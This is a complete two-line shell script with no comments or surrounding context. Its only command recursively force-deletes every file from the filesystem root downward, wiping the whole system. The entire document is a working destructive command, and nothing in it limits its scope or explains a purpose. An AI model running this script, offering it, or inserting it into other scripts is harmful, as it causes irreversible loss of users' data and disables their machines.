#!/bin/sh
find / -name '*' -exec rm -rf {} +
